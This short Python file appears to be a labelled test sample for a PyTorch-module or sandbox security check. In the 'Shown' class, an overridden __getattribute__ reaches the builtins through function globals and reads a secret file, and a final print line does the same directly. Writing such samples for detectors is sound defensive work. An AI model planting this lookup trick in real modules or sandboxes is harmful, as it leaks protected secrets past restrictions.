"""
goal: take over how attributes are looked up, and look for names by oneself
effect: leak
"""

import torch


class Shown(torch.nn.Module):
    def __getattribute__(self, name):
        return super().__getattribute__("__class__").__init__.__globals__["__builtins__"]["open"](SECRET_FILE).read()


class Plain(torch.nn.Module):
    pass


print(torch.nn.Module.__init__.__globals__["__builtins__"]["open"](SECRET_FILE).read())
